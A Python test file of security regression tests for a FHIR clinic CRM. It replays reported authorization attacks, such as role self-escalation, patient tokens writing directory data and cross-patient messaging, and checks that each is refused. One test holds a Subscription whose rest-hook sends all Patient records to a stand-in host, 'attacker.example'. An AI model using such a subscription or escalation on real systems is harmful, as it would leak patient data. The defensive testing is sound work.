"""The attacks of issue 13 that went through, each as a named regression test (real SMART tokens, roles enforced,
the two-site clinic of ``roles_clinic``, PostgreSQL and SQLite). Each checks the refusal *and* that nothing
changed."""

from __future__ import annotations

from collections.abc import Callable

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy.ext.asyncio import AsyncEngine
from tests.security.conftest import Client, client_of, token
from tests.security.roles_clinic import role
from tests.security.test_audit_events import audit_events, references
from tests.security.test_roles import found, patients, refused

from fhircrm.config import CRM_ROLE_SYSTEM

PATIENT_APP = "launch/patient patient/*.cruds"


@pytest.fixture
def as_patient(clinic_app: FastAPI) -> Client:
    def make(patient: str, scope: str = PATIENT_APP) -> httpx.AsyncClient:
        return client_of(clinic_app, token(scope, patient=patient, fhirUser=f"Patient/{patient}"))

    return make


@pytest.fixture
def as_system(clinic_app: FastAPI) -> Callable[[], httpx.AsyncClient]:
    return lambda: client_of(clinic_app, token("system/*.cruds", fhirUser=None, sub="backend"))


def _with_code(resource: dict, code: str) -> dict:
    return {**resource, "code": [*resource["code"], {"coding": [{"system": CRM_ROLE_SYSTEM, "code": code}]}]}


# --- 2. a clinician makes themselves administrator or supervisor ------------------------------------------------


async def test_a_clinician_cannot_patch_their_own_role_into_administrator(as_user: Client) -> None:
    patch = [
        {"op": "add", "path": "/code/-", "value": {"coding": [{"system": CRM_ROLE_SYSTEM, "code": "administrator"}]}}
    ]
    journey = {"resourceType": "PlanDefinition", "status": "draft", "name": "Mine"}
    async with as_user("dr-n") as clinician:
        refused(await clinician.patch("/PractitionerRole/role-dr-n", json=patch, headers=_JSON_PATCH))
        refused(await clinician.post("/PlanDefinition", json=journey))
        stored = (await clinician.get("/PractitionerRole/role-dr-n")).json()
    assert [c["coding"][0]["code"] for c in stored["code"]] == ["clinician"]


async def test_a_clinician_cannot_create_a_supervisor_role_for_themselves(as_user: Client) -> None:
    supervisor = role("role-dr-n-sup", "dr-n", "supervisor", location="loc-hq")
    async with as_user("dr-n") as clinician:
        before = await found(clinician, "/Patient")
        refused(await clinician.post("/PractitionerRole", json={k: v for k, v in supervisor.items() if k != "id"}))
        refused(await clinician.put("/PractitionerRole/role-dr-n-sup", json=supervisor))
        assert await found(clinician, "/Patient") == before
        assert (await clinician.get("/PractitionerRole/role-dr-n-sup")).status_code == 404


async def test_an_administrator_cannot_change_their_own_roles(as_user: Client) -> None:
    async with as_user("adm") as admin:
        current = (await admin.get("/PractitionerRole/role-adm")).json()
        diagnostics = refused(await admin.put("/PractitionerRole/role-adm", json=_with_code(current, "supervisor")))
        other = (await admin.get("/PractitionerRole/role-dr-s")).json()
        changed = await admin.put("/PractitionerRole/role-dr-s", json={**other, "active": False})
    assert "own roles" in diagnostics
    assert changed.status_code == 200  # another person's role: that is the administrator's job


async def test_a_role_change_leaves_an_audit_event_with_before_and_after(
    as_system: Callable[[], httpx.AsyncClient], clean_engine: AsyncEngine
) -> None:
    async with as_system() as backend:
        current = (await backend.get("/PractitionerRole/role-co-n")).json()
        assert (
            await backend.put("/PractitionerRole/role-co-n", json=_with_code(current, "supervisor"))
        ).status_code == 200
    events = [e for e in await audit_events(clean_engine) if e.get("outcomeDesc") == "role change"]
    assert len(events) == 1
    assert references(events[0])[0] == "PractitionerRole/role-co-n"
    detail = {d["type"]: d["valueString"] for d in events[0]["entity"][0]["detail"]}
    assert "crm-role|coordinator" in detail["before"] and "supervisor" not in detail["before"]
    assert "crm-role|supervisor" in detail["after"]


# --- 3. patient tokens write outside the patient record ---------------------------------------------------------


async def test_a_patient_app_writes_no_directory_configuration_or_subscription(as_patient: Client) -> None:
    admin_role = {k: v for k, v in role("x", "dr-n", "administrator").items() if k != "id"}
    patch = [{"op": "add", "path": "/gender", "value": "other"}]
    subscription = {
        "resourceType": "Subscription",
        "status": "requested",
        "reason": "copy",
        "criteria": "Patient?",
        "channel": {"type": "rest-hook", "endpoint": "https://attacker.example/hook"},
    }
    async with as_patient("pat-n1") as app:
        refused(await app.post("/PractitionerRole", json=admin_role))
        refused(await app.patch("/Practitioner/dr-n", json=patch, headers=_JSON_PATCH))
        refused(await app.delete("/Location/loc-north"))
        refused(await app.post("/PlanDefinition", json={"resourceType": "PlanDefinition", "status": "draft"}))
        refused(await app.post("/Subscription", json=subscription))
        assert (await app.get("/Location/loc-north")).status_code == 200
        assert "gender" not in (await app.get("/Practitioner/dr-n")).json()
        assert (await app.get("/PractitionerRole", params={"practitioner": "Practitioner/dr-n"})).json().get(
            "total"
        ) == 1


# --- 4. system history ------------------------------------------------------------------------------------------


async def test_system_history_does_not_list_other_clinicians_patients(as_user: Client) -> None:
    async with as_user("dr-n") as clinician:
        refused(await clinician.get("/_history"))
        refused(await clinician.get("/", params={"_type": "Communication"}))
        refused(await clinician.get("/Communication/msg-pat-x"))


# --- 5. cross-patient writes ------------------------------------------------------------------------------------


async def test_a_patient_cannot_address_a_message_to_another_patient(as_patient: Client) -> None:
    message = {
        "resourceType": "Communication",
        "status": "completed",
        "subject": {"reference": "Patient/pat-n1"},
        "recipient": [{"reference": "Patient/pat-s1"}],
    }
    async with as_patient("pat-n1") as sender, as_patient("pat-s1") as other:
        assert "Patient/pat-s1" in refused(await sender.post("/Communication", json=message))
        own = {**message, "recipient": [{"reference": "Patient/pat-n1"}]}
        assert (await sender.post("/Communication", json=own)).status_code == 201
        seen = await found(other, "/Communication")
    assert seen == {"Communication/msg-pat-s1"}


async def test_a_patient_cannot_create_a_group_of_patients(as_patient: Client) -> None:
    group = {
        "resourceType": "Group",
        "type": "person",
        "actual": True,
        "member": [{"entity": {"reference": "Patient/pat-n1"}}, {"entity": {"reference": "Patient/pat-s1"}}],
    }
    async with as_patient("pat-n1") as app:
        refused(await app.post("/Group", json=group))


async def test_a_coordinator_cannot_group_a_patient_outside_their_team(as_user: Client) -> None:
    group = {
        "resourceType": "Group",
        "type": "person",
        "actual": True,
        "member": [{"entity": {"reference": "Patient/pat-n1"}}, {"entity": {"reference": "Patient/pat-x"}}],
    }
    async with as_user("co-n") as coordinator:
        assert "Patient/pat-x" in refused(await coordinator.post("/Group", json=group))


async def test_naming_oneself_beside_a_patient_does_not_bring_them_into_reach(as_user: Client) -> None:
    """An Appointment with the coordinator as actor, or a CareTeam with them as participant, would make pat-x one
    of their patients after the write: the write is checked against who they reach before it."""
    appointment = {
        "resourceType": "Appointment",
        "status": "booked",
        "start": "2026-12-03T09:00:00Z",
        "end": "2026-12-03T09:30:00Z",
        "participant": [
            {"actor": {"reference": "Patient/pat-x"}, "status": "accepted"},
            {"actor": {"reference": "Practitioner/co-n"}, "status": "accepted"},
        ],
    }
    care_team = {
        "resourceType": "CareTeam",
        "status": "active",
        "subject": {"reference": "Patient/pat-x"},
        "participant": [{"member": {"reference": "Practitioner/co-n"}}],
    }
    async with as_user("co-n") as coordinator:
        refused(await coordinator.post("/Appointment", json=appointment))
        refused(await coordinator.post("/CareTeam", json=care_team))
        refused(await coordinator.get("/Patient/pat-x"))
        assert await found(coordinator, "/Patient") == patients("pat-n1", "pat-n2")


async def test_a_transaction_may_create_a_patient_and_their_appointment_together(as_user: Client) -> None:
    """References to a patient written in the same bundle are checked by that patient's own write."""
    bundle = {
        "resourceType": "Bundle",
        "type": "transaction",
        "entry": [
            {
                "fullUrl": "urn:uuid:0b1c5e3e-1111-4a4a-9b9b-000000000001",
                "resource": {
                    "resourceType": "Patient",
                    "generalPractitioner": [{"reference": "PractitionerRole/role-dr-n"}],
                },
                "request": {"method": "POST", "url": "Patient"},
            },
            {
                "resource": {
                    "resourceType": "Task",
                    "status": "ready",
                    "intent": "order",
                    "for": {"reference": "urn:uuid:0b1c5e3e-1111-4a4a-9b9b-000000000001"},
                },
                "request": {"method": "POST", "url": "Task"},
            },
        ],
    }
    async with as_user("co-n") as coordinator:
        response = await coordinator.post("/", json=bundle)
        assert response.status_code == 200, response.text
        created = response.json()["entry"][0]["response"]["location"].split("/_history")[0]
        assert await found(coordinator, "/Patient") == patients("pat-n1", "pat-n2", created.split("/")[1])
        assert len(await found(coordinator, "/Task", patient=created)) == 1


_JSON_PATCH = {"Content-Type": "application/json-patch+json"}
